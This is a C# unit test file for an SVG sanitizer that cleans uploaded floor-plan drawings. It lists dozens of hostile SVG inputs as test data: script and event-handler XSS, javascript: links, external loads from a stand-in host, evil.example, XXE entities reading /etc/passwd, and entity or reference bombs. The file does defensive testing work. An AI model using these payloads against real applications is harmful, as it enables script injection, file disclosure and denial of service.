using System.Text;
using System.Xml.Linq;
using CsCheck;
using SmartSecurity.Core.Plans;

namespace SmartSecurity.Core.Tests.Plans;

/// <summary>
/// Goal: a drawing that somebody uploads shows what they drew, and runs, loads and hangs nothing. Method: a table of attacks, one by one; what is left is
/// read again and held against the list; broken and shuffled files by the thousand give a refusal and nothing else.
/// </summary>
public sealed class PlanSvgTests
{
    private const string Room = "<rect x='1' y='1' width='8' height='6'/>";

    private static readonly HashSet<string> Elements =
    [
        "svg", "g", "defs", "symbol", "use", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "title", "desc",
        "linearGradient", "radialGradient", "stop",
    ];

    public static readonly TheoryData<string> Attacks = new()
    {
        "<script>alert(1)</script>", "<script href='https://evil.example/x.js'/>", "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>alert(1)</svg:script>",
        "<rect onload='alert(1)' width='1' height='1'/>", "<g ONCLICK='alert(1)'><path d='M0 0'/></g>", "<set attributeName='onload' to='alert(1)'/>",
        "<animate attributeName='href' values='javascript:alert(1)'/>", "<a href='javascript:alert(1)'><text>press</text></a>",
        "<a xmlns:x='http://www.w3.org/1999/xlink' x:href=' java&#10;script:alert(1)'><text>press</text></a>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='https://evil.example'/></body></foreignObject>",
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>", "<image href='https://evil.example/pixel.png' width='1' height='1'/>",
        "<image href='data:image/svg+xml;base64,PHN2Zy8+'/>", "<use href='https://evil.example/x.svg#a'/>", "<use href='data:image/svg+xml,x#a'/>",
        "<use href='//evil.example#a'/>", "<feImage href='https://evil.example/x'/>", "<filter id='f'><feImage href='https://evil.example'/></filter>",
        "<rect style='fill:url(https://evil.example/x)' width='1' height='1'/>", "<rect fill='url(//evil.example/x#a)' width='1' height='1'/>",
        "<rect style='background:url(javascript:alert(1))' width='1' height='1'/>", "<rect fill='u&#114;l(\"https://evil.example\")' width='1' height='1'/>",
        "<rect style='fill:\\75rl(https://evil.example)' width='1' height='1'/>",
        "<rect style='behavior:url(#x);-moz-binding:url(//e)' width='1' height='1'/>",
        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>", "<embed src='x'/>", "<object data='x'/>",
        "<video src='https://evil.example'/>",
        "<text><script>alert(1)</script>words</text>", "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
        "<text><![CDATA[<script>alert(1)</script>]]></text>", "<metadata><x xmlns='urn:x' onload='alert(1)'/></metadata>",
        "<cursor href='https://evil.example'/>",
        "<linearGradient id='g' href='https://evil.example#g'/>", "<rect xml:base='https://evil.example/' width='1' height='1'/>", "<style></style>",
        "<?xml-stylesheet href='https://evil.example/x.css'?>", "<mask id='m'><image href='https://evil.example'/></mask>",
        "<pattern id='p'><image href='file:///etc/passwd'/></pattern>", "<rect id='a&quot;&gt;&lt;script&gt;' width='1' height='1'/>",
        "<discard/><mpath href='//e'/>",
        "<rect font-family='&quot;/&gt;&lt;script&gt;' width='1' height='1'/>",
    };

    [Theory, MemberData(nameof(Attacks))]
    public void Nothing_that_runs_or_loads_is_left_and_the_drawing_around_it_is(string attack)
    {
        var clean = Clean(Drawing(Room + attack + "<circle cx='5' cy='5' r='2'/>"));
        var drawing = Harmless(clean.Svg);
        Assert.Single(drawing.Descendants(), e => e.Name.LocalName == "rect" && (string?)e.Attribute("width") == "8");
        Assert.Single(drawing.Descendants(), e => e.Name.LocalName == "circle");   // what follows the attack is still there
        Assert.DoesNotContain("evil", Encoding.UTF8.GetString(clean.Svg), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", SvgProblem.NotSvg), InlineData("no xml", SvgProblem.NotSvg), InlineData("<html/>", SvgProblem.NotSvg)]
    [InlineData("<svg/>", SvgProblem.NotSvg)]
    [InlineData("<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&x;</text></svg>",
        SvgProblem.NotSvg)]
    [InlineData("<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&b;</text></svg>",
        SvgProblem.NotSvg)]
    [InlineData("<?xml version='1.0' encoding='no-such'?><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'/>", SvgProblem.NotSvg)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><rect width='1' height='1'/></svg>", SvgProblem.NoSize)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 NaN 9'><rect width='1' height='1'/></svg>", SvgProblem.NoSize)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1e308 1e308'><rect width='1' height='1'/></svg>", SvgProblem.NoSize)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1000 9'><rect width='1' height='1'/></svg>", SvgProblem.NoSize)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><script>1</script></svg>", SvgProblem.NothingToSee)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><style>.a{fill:none}</style><path class='a' d='M0 0'/></svg>",
        SvgProblem.StyleSheet)]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g></svg>",
        SvgProblem.GoesInCircles)]
    public void What_is_no_drawing_is_refused_with_its_reason(string text, SvgProblem problem) =>
        Assert.Equal(new SvgResult.Refused(problem), PlanSvg.Clean(Bytes(text)));

    [Fact]
    public void A_drawing_that_becomes_too_much_is_refused_before_a_browser_sees_it()
    {
        var laughs = "<g id='a0'>" + Room + "</g>" + string.Concat(Enumerable.Range(1, 9).Select(i =>
            $"<g id='a{i}'>{string.Concat(Enumerable.Repeat($"<use href='#a{i - 1}'/>", 10))}</g>"));
        Assert.Equal(new SvgResult.Refused(SvgProblem.TooMany), PlanSvg.Clean(Bytes(Drawing(laughs))));
        var funny = laughs[..laughs.IndexOf("<g id='a4'", StringComparison.Ordinal)];
        Assert.IsType<SvgResult.Clean>(PlanSvg.Clean(Bytes(Drawing(funny))));
        var chain = Room + string.Concat(Enumerable.Range(1, 20_000).Select(i => $"<g id='a{i}'><use href='#a{i + 1}'/></g>"));
        Assert.Equal(new SvgResult.Refused(SvgProblem.GoesInCircles), PlanSvg.Clean(Bytes(Drawing(chain))));   // no deep call either
        var deep = string.Concat(Enumerable.Repeat("<g>", PlanSvg.DepthMax + 1)) + Room + string.Concat(Enumerable.Repeat("</g>", PlanSvg.DepthMax + 1));
        Assert.Equal(new SvgResult.Refused(SvgProblem.TooDeep), PlanSvg.Clean(Bytes(Drawing(deep))));
        var unknown = string.Concat(Enumerable.Repeat("<x>", 100_000)) + string.Concat(Enumerable.Repeat("</x>", 100_000));
        Assert.IsType<SvgResult.Clean>(PlanSvg.Clean(Bytes(Drawing(unknown + Room))));
        var many = string.Concat(Enumerable.Repeat("<path d='M0 0'/>", PlanSvg.ElementsMax + 1));
        Assert.Equal(new SvgResult.Refused(SvgProblem.TooMany), PlanSvg.Clean(Bytes(Drawing(many))));
        Assert.Equal(new SvgResult.Refused(SvgProblem.TooLarge), PlanSvg.Clean(new byte[PlanSvg.BytesMax + 1]));
    }

    [Fact]
    public void What_somebody_drew_is_kept_and_styles_become_plain_attributes()
    {
        var clean = Clean("""
            <?xml version="1.0" encoding="UTF-8"?>
            <!-- drawn by hand -->
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="210mm" height="105mm" font-family="微软雅黑, sans-serif">
              <defs><linearGradient id="lawn"><stop offset="0" stop-color="#cfe8cf"/></linearGradient>
                <symbol id="tree" viewBox="0 0 4 4"><circle r="2" style="fill:green; stroke : none;filter:url(#f)"/></symbol></defs>
              <rect style="fill:url(#lawn)" fill="red" width="100%" height="50"/><use xlink:href="#tree" x="3" y="4"/>
              <switch><foreignObject/><g transform="translate(3 4) rotate(-5)"><text x="1" y="2"><tspan>3 号楼</tspan> &amp; 车库</text></g></switch>
            </svg>
            """);
        Assert.Equal((2_000, 1_000), (clean.WidthPx, clean.HeightPx));
        var drawing = Harmless(clean.Svg);
        Assert.Equal("微软雅黑, sans-serif", (string?)drawing.Attribute("font-family"));
        Assert.Equal("url(#lawn)", (string?)drawing.Elements().Single(e => e.Name.LocalName == "rect").Attribute("fill"));
        var tree = drawing.Descendants().Single(e => e.Name.LocalName == "circle");
        Assert.Equal(["fill=\"green\"", "stroke=\"none\"", "r=\"2\""], tree.Attributes().Select(a => a.ToString()));
        Assert.Equal("#tree", (string?)drawing.Elements().Single(e => e.Name.LocalName == "use").Attribute("href"));
        Assert.Equal("3 号楼 & 车库", drawing.Descendants().Single(e => e.Name.LocalName == "text").Value);
    }

    [Fact]
    public void What_was_cleaned_once_is_the_same_when_cleaned_again()
    {
        foreach (var attack in Attacks.Select(a => a.Data))
        {
            var once = Clean(Drawing(Room + attack));
            Assert.Equal(Encoding.UTF8.GetString(once.Svg), Encoding.UTF8.GetString(((SvgResult.Clean)PlanSvg.Clean(once.Svg)).Svg));
        }
    }

    [Fact]
    public void Files_shuffled_and_broken_by_chance_are_clean_or_refused_and_never_more()
    {
        var pieces = Attacks.Select(a => a.Data).Append(Room).Append("<g>").Append("</g>").Append("<text>").Append("</text>").ToArray();
        var whole = Gen.Int[0, pieces.Length - 1].Select(i => pieces[i]).Array[0, 12].Select(p => Bytes(Drawing(string.Concat(p))));
        var broken = Gen.Select(whole, Gen.Select(Gen.Int[0, 5_000], Gen.Byte).Array[1, 8]).Select((bytes, hits) =>
        {
            foreach (var (at, value) in hits) bytes[at % bytes.Length] = value;
            return bytes;
        });
        Gen.OneOf(whole, broken, Gen.Byte.Array[0, 200]).Sample(file =>
        {
            if (PlanSvg.Clean(file) is SvgResult.Clean clean) Harmless(clean.Svg);
        }, iter: 4_000);
    }

    /// <summary>Reads what is left, and holds it against what may be there.</summary>
    private static XElement Harmless(byte[] svg)
    {
        var drawing = XDocument.Parse(Encoding.UTF8.GetString(svg)).Root!;
        foreach (var element in drawing.DescendantsAndSelf())
        {
            Assert.Equal("http://www.w3.org/2000/svg", element.Name.NamespaceName);
            Assert.Contains(element.Name.LocalName, Elements);
            foreach (var attribute in element.Attributes().Where(a => !a.IsNamespaceDeclaration))
            {
                Assert.Equal("", attribute.Name.NamespaceName);
                Assert.DoesNotMatch("(?i)^(on|style|class|src|data)", attribute.Name.LocalName);
                if (attribute.Name.LocalName == "href") Assert.StartsWith("#", attribute.Value, StringComparison.Ordinal);
                else Assert.DoesNotMatch(@"(?i):|\\|//|url\((?!#)|<|script", attribute.Value);
            }
        }
        Assert.DoesNotContain(drawing.DescendantNodes(), n => n is not (XElement or XText));
        return drawing;
    }

    private static SvgResult.Clean Clean(string text) => Assert.IsType<SvgResult.Clean>(PlanSvg.Clean(Bytes(text)));

    private static string Drawing(string inside) => $"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 8'>{inside}</svg>";

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text.TrimStart());
}
